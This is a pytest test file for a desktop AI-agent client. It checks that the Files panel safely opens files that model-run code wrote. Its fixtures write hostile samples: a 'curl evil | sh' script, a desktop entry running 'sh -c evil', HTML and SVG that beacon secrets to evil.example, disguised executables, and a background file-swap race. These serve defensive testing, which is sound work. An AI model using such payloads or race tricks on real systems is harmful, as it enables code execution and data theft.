"""Open in the Files panel when no program opens the file: the panel says so, offers Show
in folder, and when that fails too, says where the file is and copies its path. Offscreen,
Qt has no program for anything, so the failures here are real ones."""

from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication

from codeact_desktop.ui import workspace_panel as panel_module

from ._helpers import send, wait_idle

NAME = "sales summary é.xyz"
WRITE = f"<execute>\nopen({NAME!r}, 'w').write('data')\nopen('run.sh', 'w').write('echo hi')\n</execute>"


def files_written(qtbot, window, script: str, count: int):
    """The Files panel once the model's ``script`` has run and listed ``count`` files or more."""
    win, _ = window([script, "Written."])
    send(qtbot, win, "write the files")
    wait_idle(qtbot, win)
    panel = win.files_panel
    qtbot.waitUntil(lambda: panel.list.count() >= count, timeout=10_000)
    return panel


@pytest.fixture
def panel(qtbot, window):
    return files_written(qtbot, window, WRITE, 2)


def select(panel, relative):
    panel.list.clearSelection()
    (item,) = [panel.list.item(i) for i in range(panel.list.count())
               if panel.list.item(i).data(Qt.UserRole) == relative]
    item.setSelected(True)


def shown(widget) -> bool:
    return not widget.isHidden()


def test_no_program_for_the_file_then_no_file_manager_then_copy_path(qtbot, panel):
    workspace = Path(panel.conversation.workspace)
    select(panel, NAME)
    qtbot.mouseClick(panel.open_button, Qt.LeftButton)
    qtbot.waitUntil(lambda: shown(panel.notice))  # Open copies the file first, off the UI thread
    assert panel.notice_label.text().startswith(
        f"No program on this computer is set to open “.xyz” files, so {NAME} was not opened.")
    assert shown(panel.notice_reveal) and not shown(panel.notice_copy)
    qtbot.mouseClick(panel.notice_reveal, Qt.LeftButton)  # offscreen, the folder cannot be opened either
    assert panel.notice_label.text() == f"No file manager could show {NAME}. It is in:\n{workspace}"
    assert shown(panel.notice_copy) and not shown(panel.notice_reveal)
    qtbot.mouseClick(panel.notice_copy, Qt.LeftButton)
    assert QGuiApplication.clipboard().text() == str(workspace / NAME)
    assert "Copied the path" in panel.notice_label.text()
    qtbot.mouseClick(panel.notice_close, Qt.LeftButton)
    assert not shown(panel.notice)


def test_show_in_folder_from_the_message_opens_the_files_folder(qtbot, panel, monkeypatch):
    asked = []

    def open_url(url):  # no program for the file; a file manager for its folder
        asked.append(url.toLocalFile())
        return Path(url.toLocalFile()).is_dir()

    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", open_url)
    workspace = Path(panel.conversation.workspace)
    select(panel, NAME)
    panel.open_selected()
    qtbot.waitUntil(lambda: shown(panel.notice))
    assert "was not opened" in panel.notice_label.text()
    qtbot.mouseClick(panel.notice_reveal, Qt.LeftButton)
    copy = Path(asked[0])  # what Open handed the desktop: its private copy
    assert copy.name == NAME and workspace not in copy.parents and asked[1:] == [str(workspace)]
    assert not shown(panel.notice)


def test_the_message_goes_when_another_file_is_selected_or_one_opens(qtbot, panel, monkeypatch):
    select(panel, NAME)
    panel.open_selected()
    qtbot.waitUntil(lambda: shown(panel.notice))
    panel.refresh()  # a turn ending lists the files again: the same file stays selected, and its message
    assert shown(panel.notice)
    select(panel, "run.sh")
    assert not shown(panel.notice)
    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: True)
    select(panel, NAME)
    panel.open_selected()
    qtbot.waitUntil(lambda: not shown(panel.notice))


def test_open_says_it_is_copying_a_large_file(qtbot, panel, monkeypatch):
    monkeypatch.setattr(panel_module, "SAID_COPY_BYTES", 3)  # "data" is 4 bytes
    select(panel, NAME)
    panel.open_selected()
    assert shown(panel.notice) and panel.notice_label.text() == f"Copying {NAME} (4 bytes) to open it…"
    qtbot.waitUntil(lambda: "was not opened" in panel.notice_label.text())  # offscreen, nothing opens it


def test_restrictions_still_hold(qtbot, panel, monkeypatch, tmp_path):
    asked, refused = [], []
    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url) or False)
    panel.open_refused.connect(refused.append)
    workspace = Path(panel.conversation.workspace)
    # a file the code wrote that could start a program: not opened, as before
    select(panel, "run.sh")
    panel.open_selected()
    assert asked == [] and "could start a program" in refused[0] and not shown(panel.notice)
    # the file swapped for a link after the message: Show in folder no longer acts on it
    select(panel, NAME)
    panel.open_selected()
    qtbot.waitUntil(lambda: shown(panel.notice))
    asked.clear()
    (workspace / NAME).unlink()
    (workspace / NAME).symlink_to(tmp_path)
    qtbot.mouseClick(panel.notice_reveal, Qt.LeftButton)
    assert asked == [] and "does not follow it" in panel.notice_label.text()


MADE = ("<execute>\nimport os\nopen('invoice', 'wb').write(b'MZ\\x90\\x00' + bytes(60))\n"
        "open('notes', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
        "os.makedirs('Report.app/Contents/MacOS')\nopen('Report.app/Contents/MacOS/Report', 'w').write('x')\n"
        "open('setup.deb', 'wb').write(b'!<arch>\\n')\n"
        "open('shortcut', 'w').write('# made by code\\n[Desktop Entry]\\nExec=sh -c evil\\n')\n"
        "open('addon', 'w').write('x\\n[Flatpak Ref]\\nName=org.evil.App\\n')\n"
        "open('update', 'wb').write(b'\\xed\\xab\\xee\\xdb\\x03\\x00' + bytes(90))\n"
        "open('webstart', 'w').write('<?xml version=\"1.0\"?>\\n<jnlp spec=\"1.0\">')\n"  # by the desktop's type
        "open('notes.txt', 'w').write('hello\\n<p>see <img src=\"https://evil.example/?d=secret\">')\n"
        "open('chart', 'w').write('\\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/\"/></svg>')\n"
        "open('report.html', 'w').write('<img src=\"https://evil.example/?d=secret\">')\n"
        "open('summary.html.', 'w').write('\\n<!DOCTYPE html><img src=\"https://evil.example/\">')\n"
        "open('site.url', 'w').write('[InternetShortcut]\\nURL=https://evil.example/\\n')\n"
        "open('disk.img', 'wb').write(bytes(1024))\n"
        "open('unpack', 'w').write(' ' * 10 + '# This is a shell archive\\n')\n"  # a type at a fixed offset
        "open('bookmark', 'w').write(' InternetShortcut]\\nURL=https://evil.example/\\n')\n"
        "open('data.csv', 'w').write('x\\n1\\n')\n</execute>")


def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, monkeypatch):
    # Open handed these to the desktop: a suffix-less PE (wine runs it), a suffix-less shell
    # script, a macOS app bundle (a folder), an installer; and a page the browser loads with
    # the network the kernel lacks, sending what the code read. Judged by name, by the first
    # bytes, and by the type the desktop itself gives the file (a Java Web Start file).
    panel, asked, refused = files_written(qtbot, window, MADE, 17), [], []
    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
    panel.open_refused.connect(refused.append)
    for name in ("invoice", "notes", "setup.deb", "shortcut", "addon", "update", "webstart", "site.url", "disk.img",
                 "unpack", "bookmark"):
        select(panel, name)
        panel.open_selected()
    monkeypatch.setattr(panel, "selected_relative", lambda: "Report.app")
    monkeypatch.setattr(panel, "_selected_kind", lambda: "folder")
    panel.open_selected()
    monkeypatch.undo()
    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
    assert asked == [] and len(refused) == 12 and all("could start a program" in r for r in refused), refused
    for name in ("summary.html.", "notes.txt", "chart"):  # the desktop sniffs a page all the same
        select(panel, name)
        panel.open_selected()
        assert asked == [] and shown(panel.notice) and "open in your web browser" in panel.notice_label.text(), name
    select(panel, "report.html")
    panel.open_selected()
    assert asked == [] and shown(panel.notice) and "open in your web browser" in panel.notice_label.text()
    qtbot.mouseClick(panel.notice_open, Qt.LeftButton)  # the user says so
    assert [Path(p).name for p in asked] == ["report.html"]
    select(panel, "data.csv")
    panel.open_selected()
    qtbot.waitUntil(lambda: len(asked) == 2)
    assert [Path(p).name for p in asked] == ["report.html", "data.csv"] and not shown(panel.notice)


FLIP = ("<execute>\nimport os, threading, time\n"
        "def flip():\n"
        "    end = time.time() + 60\n"
        "    while time.time() < end:\n"
        "        for body in (b'just some notes\\n', b'\\x7fELF' + bytes(60)):\n"
        "            open('swap.tmp', 'wb').write(body)\n"
        "            os.replace('swap.tmp', 'notes')\n"
        "            time.sleep(0.002)\n"
        "open('notes', 'w').write('just some notes\\n')\n"
        "threading.Thread(target=flip, daemon=True).start()\n</execute>")


def test_what_open_hands_the_desktop_is_what_it_judged(qtbot, window, monkeypatch):
    # Code left running in the background swaps a suffix-less file between text and an
    # executable, so Open's look and the desktop's open can see different files: the
    # desktop types such a file by its content. Open hands over a private copy, judged.
    panel, handed, refused = files_written(qtbot, window, FLIP, 1), [], []

    def open_url(url):  # what the desktop would read, at the moment it is asked
        path = Path(url.toLocalFile())
        handed.append((path, path.read_bytes(), path.stat().st_mode))
        return True

    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", open_url)
    panel.open_refused.connect(refused.append)
    for _ in range(30):
        answers = len(handed) + len(refused)
        select(panel, "notes")
        panel.open_selected()
        qtbot.waitUntil(lambda answers=answers: len(handed) + len(refused) > answers, timeout=10_000)
    workspace = Path(panel.conversation.workspace)
    assert handed and refused, (len(handed), len(refused))  # the swaps came both before and after the look
    assert all(body == b"just some notes\n" for _, body, _ in handed), [body[:8] for _, body, _ in handed]
    assert all(workspace not in path.parents and not mode & 0o222 for path, _, mode in handed)


def test_folders_and_show_in_folder_hand_the_desktop_no_path_the_code_can_swap(qtbot, panel, monkeypatch):
    # Running code swapped a listed folder with a Windows executable (renameat2's exchange)
    # between Open's look and the desktop's open: gio then ran the executable by its
    # content. A folder is now shown, through the conversation's folder, which the code
    # cannot replace (a mount point in its namespace); so is the folder of a nested file.
    workspace, asked = Path(panel.conversation.workspace), []
    (workspace / "charts" / "2026").mkdir(parents=True)
    (workspace / "charts" / "2026" / "q1.csv").write_text("x\n")
    monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
    monkeypatch.setattr(panel_module.sys, "platform", "linux")
    for relative in ("charts", "charts/2026"):
        monkeypatch.setattr(panel, "selected_relative", lambda relative=relative: relative)
        panel.open_selected()
    monkeypatch.setattr(panel, "selected_relative", lambda: "charts/2026/q1.csv")
    panel.reveal_selected()
    assert asked == [str(workspace)] * 3
    assert panel.notice_label.text() == ("q1.csv is in the folder charts/2026 of the conversation's folder, "
                                         "which opened.")
    # swapped for a link after Open's look: not handed on
    monkeypatch.setattr(panel, "_judge", lambda relative, root=None: ("", ""))
    (workspace / "link").symlink_to(workspace / "charts")
    monkeypatch.setattr(panel, "selected_relative", lambda: "link")
    panel.open_selected()
    assert asked == [str(workspace)] * 3 and "does not follow it" in panel.notice_label.text()
